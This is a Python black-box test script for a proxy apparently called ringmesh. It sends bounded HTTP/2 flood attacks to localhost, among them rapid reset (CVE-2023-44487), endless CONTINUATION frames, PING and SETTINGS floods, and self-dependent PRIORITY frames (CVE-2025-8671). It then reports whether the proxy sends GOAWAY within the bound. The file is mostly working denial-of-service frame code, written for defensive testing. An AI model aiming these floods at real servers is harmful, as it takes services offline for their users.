#!/usr/bin/env python3
"""HTTP/2 abuse attacks on raw frames (hyperframe + hpack), for ringmesh's black-box tests.

    h2_attack.py PORT ATTACK --bound N [--frame-size B] [--settle S]

Attacks:

    rapid-reset    HEADERS (END_STREAM) then RST_STREAM(CANCEL) on streams 1, 3, 5, ... (CVE-2023-44487)
    rapid-reset-open   the same with requests whose body never comes (the stream is open upstream)
    continuation   HEADERS without END_HEADERS, then CONTINUATION frames that never end the block
    ping           PING frames, never an ACK
    settings       empty SETTINGS frames
    empty-data     one request to /echo, then DATA frames with no payload and no END_STREAM
    window-update  WINDOW_UPDATE frames (increment 1) on the connection, no data asked for
    self-priority  requests to /echo whose body never comes, each followed by a PRIORITY frame
                   making its stream depend on itself, which the server must reset
                   (MadeYouReset, CVE-2025-8671)
    ping-ack       PING frames with the ACK flag, never asked for
    unknown        frames of an unknown type (0xfa), 8 bytes each

The attack is measured against `--bound`, the most units (reset pairs, frames) the proxy may take
before it closes the connection: below the bound, units go out in batches of `--batch`, with a
look for GOAWAY or a close for `--step-wait` seconds after each (0: as fast as the socket takes
them); once `bound` units are out, the attacker stops and waits up to `--settle` seconds for the
proxy to answer. It never sends unit bound + 1, so a GOAWAY or close means the proxy gave up on
the connection within the bound, however slow the machine. After a GOAWAY it waits up to
`--settle` seconds more for the connection to close. Prints one JSON object:

    {"attack": ..., "sent": units sent before the answer, "goaway": error code or null,
     "closed": whether the connection closed, "last_stream_id": from the GOAWAY or null,
     "elapsed": seconds}
"""

import argparse
import json
import select
import socket
import struct
import sys
import time

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
GOAWAY = 0x7
SETTINGS = 0x4
CANCEL = 0x8


class Closed(Exception):
    pass


class Attacker:
    def __init__(self, port):
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buffer = b""
        self.goaway = None
        self.last_stream_id = None
        self.closed = False
        self.encoder = hpack.Encoder()
        self.authority = f"127.0.0.1:{port}"
        self.send(PREFACE + SettingsFrame(0).serialize())

    def send(self, data):
        try:
            self.sock.sendall(data)
        except OSError as e:
            self.drain()
            self.closed = True
            raise Closed() from e

    def drain(self):
        """Reads what is left after the proxy closed: a GOAWAY sent before the close is still
        in the receive queue when a write fails."""
        while True:
            try:
                readable, _, _ = select.select([self.sock], [], [], 1.0)
                data = self.sock.recv(1 << 16) if readable else b""
            except OSError:
                data = b""
            if not data:
                return
            self.buffer += data
            self.parse()

    def poll(self, timeout):
        """Reads what the proxy sent within `timeout`; True once it has closed or sent GOAWAY."""
        deadline = time.monotonic() + timeout
        while not self.closed:
            remaining = max(0.0, deadline - time.monotonic())
            readable, _, _ = select.select([self.sock], [], [], remaining)
            if not readable:
                break
            try:
                data = self.sock.recv(1 << 16)
            except OSError:
                data = b""
            if not data:
                self.closed = True
                break
            self.buffer += data
            had_goaway = self.goaway is not None
            self.parse()
            if self.goaway is not None and not had_goaway:
                break
        return self.closed or self.goaway is not None

    def parse(self):
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags = self.buffer[3], self.buffer[4]
            payload = self.buffer[9 : 9 + length]
            self.buffer = self.buffer[9 + length :]
            if kind == GOAWAY and self.goaway is None:
                last, code = struct.unpack(">II", payload[:8])
                self.last_stream_id = last & 0x7FFFFFFF
                self.goaway = code
            elif kind == SETTINGS and not flags & 0x1:
                # Acknowledge the proxy's settings, like any client; it is the floods that are rude.
                try:
                    self.sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
                except OSError:
                    self.closed = True

    def request_headers(self, stream_id, path="/delay/0", method="GET", end_stream=True, extra=()):
        block = self.encoder.encode(
            [
                (":method", method),
                (":scheme", "http"),
                (":authority", self.authority),
                (":path", path),
            ]
            + list(extra)
        )
        flags = ["END_HEADERS"] + (["END_STREAM"] if end_stream else [])
        return HeadersFrame(stream_id, data=block, flags=flags).serialize()


def raw_frame(kind, flags, stream_id, payload):
    """A frame as bytes, for what hyperframe will not build (unknown types, zero increments)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload


def window_update(stream_id, increment):
    return raw_frame(0x8, 0, stream_id, struct.pack(">I", increment))


def run(attacker, units, bound, batch, step_wait, settle):
    """Sends `units(i)` for i = 0, 1, ... in batches while under `bound`, looking for the proxy's
    answer for `step_wait` seconds after each batch; at the bound, waits `settle` seconds. After
    a GOAWAY, waits up to `settle` for the connection to close as well."""
    sent = 0
    try:
        while sent < bound:
            n = min(batch, bound - sent)
            attacker.send(b"".join(units(sent + k) for k in range(n)))
            sent += n
            if attacker.poll(step_wait):
                break
        else:
            attacker.poll(settle)
    except Closed:
        pass
    if attacker.goaway is not None and not attacker.closed:
        deadline = time.monotonic() + settle
        while not attacker.closed and time.monotonic() < deadline:
            attacker.poll(deadline - time.monotonic())
    return sent


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("port", type=int)
    parser.add_argument("attack")
    parser.add_argument("--bound", type=int, required=True)
    parser.add_argument("--frame-size", type=int, default=16384)
    parser.add_argument("--batch", type=int, default=20)
    parser.add_argument("--settle", type=float, default=5.0)
    parser.add_argument("--step-wait", type=float, default=0.0)
    args = parser.parse_args()

    started = time.monotonic()
    attacker = Attacker(args.port)
    attacker.poll(0.5)  # the proxy's SETTINGS
    attack = args.attack
    if attack in ("rapid-reset", "rapid-reset-open"):
        open_body = attack == "rapid-reset-open"

        def unit(i):
            stream_id = 2 * i + 1
            return attacker.request_headers(
                stream_id, path="/echo" if open_body else "/delay/0", method="POST" if open_body else "GET",
                end_stream=not open_body,
            ) + RstStreamFrame(stream_id, error_code=CANCEL).serialize()

        sent = run(attacker, unit, args.bound, args.batch, args.step_wait, args.settle)
    elif attack == "continuation":
        # A valid header block far larger than any limit, cut into frames of --frame-size.
        padding = [(f"x-pad-{i}", "a" * 100) for i in range(args.frame_size * args.bound // 100 + 200)]
        block = hpack.Encoder().encode(
            [(":method", "GET"), (":scheme", "http"), (":authority", attacker.authority), (":path", "/")]
            + padding,
            huffman=False,
        )
        size = args.frame_size

        def unit(i):
            piece = block[i * size : (i + 1) * size]
            if i == 0:
                return HeadersFrame(1, data=piece).serialize()
            return ContinuationFrame(1, data=piece).serialize()

        assert len(block) >= size * args.bound, "header block too short for the bound"
        sent = run(attacker, unit, args.bound, 1, args.step_wait, args.settle)
    elif attack == "ping":
        sent = run(
            attacker,
            lambda i: PingFrame(0, opaque_data=struct.pack(">Q", i)).serialize(),
            args.bound,
            args.batch,
            args.step_wait,
            args.settle,
        )
    elif attack == "settings":
        sent = run(attacker, lambda i: SettingsFrame(0).serialize(), args.bound, args.batch, args.step_wait, args.settle)
    elif attack == "window-update":
        sent = run(
            attacker, lambda i: window_update(0, 1), args.bound, args.batch, args.step_wait, args.settle
        )
    elif attack == "self-priority":

        def unit(i):
            stream_id = 2 * i + 1
            return attacker.request_headers(
                stream_id, path="/echo", method="POST", end_stream=False
            ) + raw_frame(0x2, 0, stream_id, struct.pack(">IB", stream_id, 16))

        sent = run(attacker, unit, args.bound, args.batch, args.step_wait, args.settle)
    elif attack == "ping-ack":
        sent = run(
            attacker,
            lambda i: PingFrame(0, flags=["ACK"], opaque_data=struct.pack(">Q", i)).serialize(),
            args.bound,
            args.batch,
            args.step_wait,
            args.settle,
        )
    elif attack == "unknown":
        sent = run(
            attacker, lambda i: raw_frame(0xFA, 0, 0, b"\0" * 8), args.bound, args.batch, args.step_wait, args.settle
        )
    elif attack == "empty-data":
        try:
            attacker.send(attacker.request_headers(1, path="/echo", method="POST", end_stream=False))
        except Closed:
            pass
        sent = run(
            attacker, lambda i: DataFrame(1, data=b"").serialize(), args.bound, 1, args.step_wait, args.settle
        )
    else:
        parser.error(f"unknown attack {attack}")
    print(
        json.dumps(
            {
                "attack": attack,
                "sent": sent,
                "closed": attacker.closed,
                "goaway": attacker.goaway,
                "last_stream_id": attacker.last_stream_id,
                "elapsed": round(time.monotonic() - started, 3),
            }
        ),
        flush=True,
    )


if __name__ == "__main__":
    sys.exit(main())
